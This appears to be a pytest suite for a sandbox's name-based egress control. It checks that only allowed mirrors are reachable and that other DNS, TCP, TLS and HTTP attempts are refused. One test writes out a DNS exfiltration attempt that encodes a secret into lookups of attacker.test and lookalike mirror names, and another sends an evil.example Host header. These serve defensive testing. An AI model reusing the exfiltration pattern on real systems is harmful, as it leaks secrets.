# Egress by name with DNS closed (issue 29), end to end as root: a mirror peer
# (test/pylib/egress_peer.py: dnsmasq with its own names, logging every query,
# and an HTTP server) and a node started with --egress-sources naming it and
# --dns-upstream pointing at its dnsmasq. Checks that a named rule reaches its
# mirror and nothing else, that lookups of other names are REFUSED by the
# node, never reach dnsmasq and are counted, that a per-phase change applies
# at the next connect, that CNAME chains work, that a source that does not
# resolve opens nothing and says so, that unknown names are a 400 naming the
# known ones, that `network: none` gets no DNS, and that a malformed sources
# file stops the node at start.
import json
import os
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "pylib"))

from dsec_harness import Node, _finish_node, wait_for  # noqa: E402
from egress_peer import MirrorPeer, nameserver, probe  # noqa: E402

PYTHON = "base/python@3.11"


@pytest.fixture(scope="module")
def peer():
    p = MirrorPeer()
    yield p
    p.close()


@pytest.fixture(scope="module")
def node(dsec_bin, store, peer):
    path = peer.sources(os.path.join(peer.dir, "sources.json"))
    n = Node(dsec_bin, store, extra_args=["--egress-sources", path,
                                          "--dns-upstream", peer.upstream]).start()
    yield n
    _finish_node(n)


def quote(sid):
    return urllib.parse.quote(sid, safe="")


def set_network(client, sid, allow):
    return client.call("PUT", f"/v1/sandboxes/{quote(sid)}/network", {"allow": allow})


def denials(client, sid):
    status, info = client.get(sid)
    assert status == 200, info
    return info["denials"]


def metric(client, name):
    """A node-wide counter of /metrics."""
    status, _, body = client.raw("GET", "/metrics")
    assert status == 200, body
    for line in body.decode().splitlines():
        if line.startswith(name + "{"):
            return int(line.rsplit(" ", 1)[1])
    raise AssertionError(f"{name} not in /metrics")


def test_named_rule_reaches_its_mirror_and_nothing_else(client, peer):
    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
    ns = nameserver(client, sid)
    assert ns and ns != peer.pypi, ns
    got = probe(client, sid, [
        ["resolve", "pypi.mirror.test"],
        ["http", "pypi.mirror.test", peer.pypi],
        ["resolve", "npm.mirror.test"],
        ["tcp", peer.npm, 80],             # the other mirror, by address
        ["tcp", peer.pypi, 53],            # the upstream itself
        ["dns", peer.pypi, "pypi.mirror.test", 1],  # direct DNS to another server
    ])
    assert got == [[peer.pypi], "ok:host=pypi.mirror.test", "gaierror", "EPERM", "EPERM",
                   "EPERM"], got
    d = denials(client, sid)
    assert "dns npm.mirror.test" in d["recent"], d
    assert f"net {peer.npm}:80" in d["recent"], d
    assert f"net {peer.pypi}:53" in d["recent"], d
    # 3 refused connects/sends + at least one refused lookup (the stub may ask twice)
    assert d["network"] >= 4, d
    assert not [r for r in d["recent"] if r.startswith("unresolved ")], d


def test_names_beside_addresses_and_unknown_names(client, peer):
    sid = client.create_ok([PYTHON], memory_mb=256,
                           network={"allow": ["npm", f"{peer.pypi}:80"]})
    got = probe(client, sid, [["tcp", peer.pypi, 80], ["http", "npm.mirror.test", peer.npm]])
    assert got == ["ok", "ok:host=npm.mirror.test"], got
    status, out = client.create([PYTHON], memory_mb=256, network={"allow": ["pypi", "apt"]})
    assert status == 400, out
    msg = out["error"]["message"]
    assert 'unknown egress source "apt"' in msg and "known: alias, big, ghost, npm, pypi" in msg, msg
    status, out = set_network(client, sid, ["goproxy"])
    assert status == 400 and "known: alias, big, ghost, npm, pypi" in out["error"]["message"], out
    # PATCH takes names too.
    status, out = client.call("PATCH", f"/v1/sandboxes/{quote(sid)}",
                              {"network": {"allow": ["pypi"]}})
    assert status == 200, out
    assert probe(client, sid, [["http", "pypi.mirror.test", peer.pypi], ["tcp", peer.npm, 80]]) \
        == ["ok:host=pypi.mirror.test", "EPERM"]
    status, out = client.call("PATCH", f"/v1/sandboxes/{quote(sid)}",
                              {"network": {"allow": ["apt"]}})
    assert status == 400 and "known: alias, big, ghost, npm, pypi" in out["error"]["message"], out


def test_phase_change_applies_at_the_next_connect(client, peer):
    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
    assert probe(client, sid, [["http", "pypi.mirror.test", peer.pypi]]) == [
        "ok:host=pypi.mirror.test"]
    status, out = set_network(client, sid, ["npm"])
    assert status == 200, out
    got = probe(client, sid, [["resolve", "pypi.mirror.test"], ["tcp", peer.pypi, 80],
                              ["resolve", "npm.mirror.test"],
                              ["http", "npm.mirror.test", peer.npm]])
    assert got == ["gaierror", "EPERM", [peer.npm], "ok:host=npm.mirror.test"], got
    # Setup over: no network at all, at the next connect.
    status, out = set_network(client, sid, [])
    assert status == 200, out
    assert probe(client, sid, [["tcp", peer.npm, 80]]) == ["EPERM"]


def test_exfiltration_lookup_never_reaches_dnsmasq(client, peer):
    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
    secret = "c2VjcmV0a2V5MTIz"
    names = [f"{secret}.attacker.test", f"{secret}.pypi.mirror.test",
             f"{secret}-npm.mirror.test"]
    ns = nameserver(client, sid)
    refused = metric(client, "dsec_dns_refused_total")
    got = probe(client, sid, [["resolve", n] for n in names]
                + [["dns", ns, n, 16] for n in names])
    assert got == ["gaierror"] * 3 + ["rcode:5"] * 3, got
    assert metric(client, "dsec_dns_refused_total") >= refused + 6
    asked = peer.queries()
    assert not [q for q in asked if secret.lower() in q], asked
    d = denials(client, sid)
    for n in names:
        assert f"dns {n.lower()}" in d["recent"], d
    assert d["network"] >= 6, d


def test_cname_chain_is_followed(client, peer):
    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["alias"]})
    got = probe(client, sid, [["resolve", "alias.mirror.test"],
                              ["http", "alias.mirror.test", peer.pypi],
                              ["tcp", peer.npm, 80]])
    assert got == [[peer.pypi], "ok:host=alias.mirror.test", "EPERM"], got


def test_source_that_does_not_resolve_opens_nothing_and_says_so(client, peer):
    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["ghost"]})
    d = denials(client, sid)
    unresolved = [r for r in d["recent"] if r.startswith("unresolved ")]
    assert len(unresolved) == 1, d
    assert unresolved[0].startswith("unresolved ghost.mirror.test:80 (source ghost): "), d
    got = probe(client, sid, [["resolve", "ghost.mirror.test"], ["tcp", peer.pypi, 80]])
    assert got[1] == "EPERM", got


def test_wrong_sni_or_host_on_an_allowed_address_is_closed(client, peer):
    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
    # npm.mirror.test is served by the same mirror peer; pypi's address is
    # allowed, the name npm is not.
    checked = metric(client, "dsec_name_check_checked_total")
    closed = metric(client, "dsec_name_check_closed_total")
    got = probe(client, sid, [
        ["tls", "pypi.mirror.test", peer.pypi],
        ["tls", "npm.mirror.test", peer.pypi],
        ["http", "pypi.mirror.test", peer.pypi],
        ["http", "npm.mirror.test", peer.pypi],
        ["http", "evil.example", peer.pypi],
    ])
    assert got == ["ok:host=pypi.mirror.test", "closed", "ok:host=pypi.mirror.test", "closed",
                   "closed"], got
    assert metric(client, "dsec_name_check_checked_total") >= checked + 5
    assert metric(client, "dsec_name_check_closed_total") >= closed + 3
    d = denials(client, sid)
    assert f"sni npm.mirror.test {peer.pypi}:443" in d["recent"], d
    assert f"host npm.mirror.test {peer.pypi}:80" in d["recent"], d
    assert f"host evil.example {peer.pypi}:80" in d["recent"], d
    assert d["network"] >= 3, d


def test_address_rules_are_not_name_checked(client, peer):
    # The same address by a CIDR rule: any Host passes (the rule names no name).
    sid = client.create_ok([PYTHON], memory_mb=256,
                           network={"allow": [f"{peer.pypi}/32:80", f"{peer.pypi}:443"]})
    got = probe(client, sid, [["http", "anything.example", peer.pypi],
                              ["tls", "anything.example", peer.pypi]])
    assert got == ["ok:host=anything.example", "ok:host=anything.example"], got


def test_truncation_then_tcp_and_edns0(client, peer):
    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["big"]})
    ns = nameserver(client, sid)
    got = probe(client, sid, [["dnsudp", ns, "big.mirror.test", 1],
                              ["dnstcp", ns, "big.mirror.test", 1],
                              ["resolve", "big.mirror.test"]])
    assert got[0].startswith("rcode:0 tc:1"), got   # 60 A records do not fit 512 bytes
    assert got[1] == "rcode:0 tc:0 an:60", got      # the stub's retry over TCP
    assert len(got[2]) == 60, got                   # glibc does the same by itself
    # The rule holds at most 16 addresses per name (fail closed beyond).
    d = denials(client, sid)
    assert not [r for r in d["recent"] if r.startswith("unresolved ")], d


def test_microvm_refuses_allow_lists_by_name(client):
    status, out = client.create([PYTHON], memory_mb=256, backend="microvm",
                                network={"allow": ["pypi"]})
    assert status == 400, out
    msg = out["error"]["message"]
    assert "network.allow is not supported by the microvm backend" in msg, msg


def test_network_none_gets_no_dns(client, peer):
    sid = client.create_ok([PYTHON], memory_mb=256)
    got = probe(client, sid, [["resolve", "pypi.mirror.test"],
                              ["dns", peer.pypi, "pypi.mirror.test", 1]])
    assert got == ["gaierror", "EPERM"], got


def test_malformed_sources_file_stops_the_node(dsec_bin, store, tmp_path):
    bad = tmp_path / "sources.json"
    bad.write_text('{\n  "pypi": ["pypi.mirror.test:443",\n            "x.test:99999"]\n}\n')
    state = tmp_path / "state"
    r = subprocess.run([dsec_bin, "node", "--state-dir", str(state), "--rest", "127.0.0.1:0",
                        "--listen", "127.0.0.1:0", "--zram-mb", "0",
                        "--egress-sources", str(bad)],
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
    assert r.returncode == 2, r.stdout
    out = r.stdout.decode()
    assert "line 3" in out and '"pypi"[1]' in out and "x.test:99999" in out, out


def test_python_names_as_in_dsecs_sdk(sdk, peer):
    """create(network={"pypi": True, "npm": False}) opens pypi's mirror and
    nothing else; update(network=...) swaps it for npm's."""
    from egress_peer import PROBE
    sb = sdk.create(["base/python@3.11"], memory_mb=256, network={"pypi": True, "npm": False})
    try:
        sb.write_file("/tmp/p.py", PROBE.encode())

        def probe_sb(probes):
            r = sb.exec(["python3", "/tmp/p.py", json.dumps(probes)], timeout_s=120)
            assert r.exit_code == 0, r
            return json.loads(r.stdout)

        got = probe_sb([["http", "pypi.mirror.test", peer.pypi],
                        ["tls", "pypi.mirror.test", peer.pypi],
                        ["resolve", "npm.mirror.test"], ["tcp", peer.npm, 80],
                        ["http", "npm.mirror.test", peer.pypi], ["tcp", peer.pypi, 53],
                        ["tcp", peer.pypi, 22]])
        assert got == ["ok:host=pypi.mirror.test", "ok:host=pypi.mirror.test", "gaierror",
                       "EPERM", "closed", "EPERM", "EPERM"], got
        assert sb.info().denials["network"] >= 4, sb.info().denials
        sb.update(network={"npm": True, "pypi": False})
        assert probe_sb([["resolve", "npm.mirror.test"], ["tcp", peer.pypi, 80]]) == \
            [[peer.npm], "EPERM"]
    finally:
        sb.destroy()


def test_python_create_network_forms(sdk, dsec_sdk, peer):
    """network= also takes a list of names and entries, and "none";
    network_allow= keeps working; both at once, or a bare name, are refused."""
    from egress_peer import PROBE
    sb = sdk.create(["base/python@3.11"], memory_mb=256, network=["npm", f"{peer.pypi}:80"])
    try:
        sb.write_file("/tmp/p.py", PROBE.encode())
        r = sb.exec(["python3", "/tmp/p.py", json.dumps([
            ["http", "npm.mirror.test", peer.npm], ["tcp", peer.pypi, 80],
            ["tcp", peer.pypi, 443]])], timeout_s=120)
        assert json.loads(r.stdout) == ["ok:host=npm.mirror.test", "ok", "EPERM"], r.stdout
    finally:
        sb.destroy()
    for kw, want in (({"network": "none"}, "EPERM"),
                     ({"network_allow": {"pypi": True}}, "ok:host=pypi.mirror.test")):
        sb = sdk.create(["base/python@3.11"], memory_mb=256, **kw)
        try:
            sb.write_file("/tmp/p.py", PROBE.encode())
            r = sb.exec(["python3", "/tmp/p.py", json.dumps([
                ["http", "pypi.mirror.test", peer.pypi]])], timeout_s=120)
            assert json.loads(r.stdout) == [want], (kw, r.stdout)
        finally:
            sb.destroy()
    with pytest.raises(dsec_sdk.InvalidArgument, match="network= and network_allow="):
        sdk.create(["base/python@3.11"], network={"pypi": True}, network_allow=["pypi"])
    with pytest.raises(dsec_sdk.InvalidArgument, match='a str must be "none"'):
        sdk.create(["base/python@3.11"], network="pypi")
    with pytest.raises(dsec_sdk.InvalidArgument, match='unknown egress source "apt"'):
        sdk.create(["base/python@3.11"], network={"apt": True})


def test_e2b_allow_out_takes_names(client, peer):
    status, sb = client.call("POST", "/v2/sandboxes",
                             {"templateID": "base", "network": {"allowOut": ["pypi"]}})
    assert status == 201, sb
    sid = sb["sandboxID"]
    client.created.append(sid)
    got = probe(client, sid, [["http", "pypi.mirror.test", peer.pypi],
                              ["resolve", "npm.mirror.test"]])
    assert got == ["ok:host=pypi.mirror.test", "gaierror"], got


def test_e2b_deny_out_takes_names(client, peer):
    """denyOut names a source as DSec's {"npm": False} does: closed, with
    allowOut winning as in E2B; "all traffic but npm" is refused by name."""
    status, sb = client.call("POST", "/v2/sandboxes", {
        "templateID": "base", "allow_internet_access": True,
        "network": {"allowOut": ["pypi"], "denyOut": ["0.0.0.0/0", "npm"]}})
    assert status == 201, sb
    sid = sb["sandboxID"]
    client.created.append(sid)
    got = probe(client, sid, [["http", "pypi.mirror.test", peer.pypi],
                              ["resolve", "npm.mirror.test"], ["tcp", peer.npm, 80]])
    assert got == ["ok:host=pypi.mirror.test", "gaierror", "EPERM"], got
    status, out = client.call("POST", "/v2/sandboxes", {
        "templateID": "base", "allow_internet_access": True, "network": {"denyOut": ["npm"]}})
    assert status == 400, out
    assert 'network.denyOut "npm" with the internet open' in out["message"], out
    status, out = client.call("POST", "/v2/sandboxes", {
        "templateID": "base", "network": {"denyOut": ["apt"]}})
    assert status == 400 and "known: alias, big, ghost, npm, pypi" in out["message"], out


def test_nodes_show_the_sources_digest(client):
    status, out = client.call("GET", "/v1/nodes")
    assert status == 200, out
    me = out["nodes"][0]["egress_sources"]
    assert len(me["digest"]) == 16 and me["same_as_this_node"] is True, out


def test_a_node_with_another_sources_file_says_so(node, node_factory, tmp_path):
    """Sources travel with gossip: a node joined with another file shows as
    not the same in GET /v1/nodes of the first, and the same as itself."""
    other = tmp_path / "other.json"
    other.write_text('{"pypi": ["10.9.9.9:443"]}')
    b = node_factory.start("--join", f"127.0.0.1:{node.listen_port}",
                           "--egress-sources", str(other))

    def view(n):
        status, out = n.client.call("GET", "/v1/nodes")
        assert status == 200, out
        return {m["id"]: m["egress_sources"] for m in out["nodes"]}

    got = wait_for(lambda: (lambda v: v if (v.get(b.node_id) or {}).get("digest") else None)(
        view(node)), 30, what="the joined node's sources digest")
    assert got[b.node_id]["same_as_this_node"] is False, got
    assert got[node.node_id]["same_as_this_node"] is True, got
    mine = view(b)
    assert mine[b.node_id]["same_as_this_node"] is True, mine


def slow_queries(peer):
    return [q for q in peer.queries() if q.endswith("slow.mirror.test")]


def test_a_slow_upstream_does_not_stall_other_sandboxes_network_changes(client, peer):
    """The refresh of names whose upstream never answers (2 s per query, A
    and AAAA for each name) runs with no lock held: a PUT .../network of
    another sandbox made while that refresh waits applies at once, before
    the refresh has even sent its last query."""
    other = client.create_ok([PYTHON], memory_mb=256, network={"allow": [f"{peer.pypi}:80"]})
    names = ["a.slow.mirror.test", "b.slow.mirror.test"]
    slow = client.create_ok([PYTHON], memory_mb=256,
                            network={"allow": [f"{n}:80" for n in names]})
    # The create asked for each name (and found nothing): unresolved, say so.
    unresolved = [r for r in denials(client, slow)["recent"] if r.startswith("unresolved ")]
    assert sorted(u.split(":")[0] for u in unresolved) == \
        [f"unresolved {n}" for n in names], unresolved
    # The refresh thread retries both in one round (10 s later): A then AAAA
    # of each name, 2 s apiece. Wait until its first query reached dnsmasq;
    # a PUT that waited for the round would return after its 4th.
    asked = len(slow_queries(peer))
    wait_for(lambda: len(slow_queries(peer)) > asked, 60, interval=0.05,
             what="the refresh's lookup of the slow names")
    status, out = set_network(client, other, [f"{peer.npm}:80"])
    assert status == 200, out
    during = slow_queries(peer)
    assert len(during) <= asked + 2, \
        f"PUT /network returned only after the refresh round ended: {during[asked:]}"
    assert probe(client, other, [["tcp", peer.npm, 80], ["tcp", peer.pypi, 80]]) == \
        ["ok", "EPERM"]


def test_python_set_network_and_update_take_deny(sdk, dsec_sdk, peer):
    """The Python SDK changes network.deny on a running sandbox as create's
    network_deny= sets it: set_network(allow, deny=...), update(network=...,
    network_deny=...) and update(network={"allow": ..., "deny": ...}) each
    close what the catch-all opens, at the next connect, and create(network=)
    takes the dict form too; a domain in deny, or a deny-list without the
    allow-list it narrows, is InvalidArgument."""
    from egress_peer import PROBE
    sb = sdk.create(["base/python@3.11"], memory_mb=256, network=["0.0.0.0/0:*"])
    try:
        sb.write_file("/tmp/p.py", PROBE.encode())

        def reach():
            r = sb.exec(["python3", "/tmp/p.py", json.dumps(
                [["tcp", peer.pypi, 80], ["tcp", peer.npm, 80]])], timeout_s=120)
            assert r.exit_code == 0, r
            return json.loads(r.stdout)

        assert reach() == ["ok", "ok"]
        sb.set_network(["0.0.0.0/0:*"], deny=[f"{peer.pypi}:*"])
        assert reach() == ["EPERM", "ok"]
        assert f"net {peer.pypi}:80" in sb.info().denials["recent"]
        sb.update(network=["0.0.0.0/0:*"], network_deny=[f"{peer.npm}:80"])
        assert reach() == ["ok", "EPERM"]
        # An allow entry wins over the deny of its address (E2B's allowOut).
        sb.update(network={"allow": ["0.0.0.0/0:*", f"{peer.npm}:*"],
                           "deny": [f"{peer.npm}:*", f"{peer.pypi}:*"]})
        assert reach() == ["EPERM", "ok"]
        sb.set_network(["0.0.0.0/0:*"])  # no deny: the catch-all opens both again
        assert reach() == ["ok", "ok"]
        with pytest.raises(dsec_sdk.InvalidArgument, match="network.deny"):
            sb.set_network(["0.0.0.0/0:*"], deny=["pypi.mirror.test:*"])
        with pytest.raises(dsec_sdk.InvalidArgument, match="network_deny: goes with network="):
            sb.update(network_deny=[f"{peer.npm}:*"])
        with pytest.raises(dsec_sdk.InvalidArgument, match="deny: must be a list of str"):
            sb.set_network(["0.0.0.0/0:*"], deny=f"{peer.npm}:*")
        assert reach() == ["ok", "ok"]  # refusals changed nothing
    finally:
        sb.destroy()
    # create(network=) takes the same dict form.
    sb = sdk.create(["base/python@3.11"], memory_mb=256,
                    network={"allow": ["0.0.0.0/0:*"], "deny": [f"{peer.npm}:*"]})
    try:
        sb.write_file("/tmp/p.py", PROBE.encode())
        r = sb.exec(["python3", "/tmp/p.py", json.dumps(
            [["tcp", peer.pypi, 80], ["tcp", peer.npm, 80]])], timeout_s=120)
        assert json.loads(r.stdout) == ["ok", "EPERM"], r
    finally:
        sb.destroy()
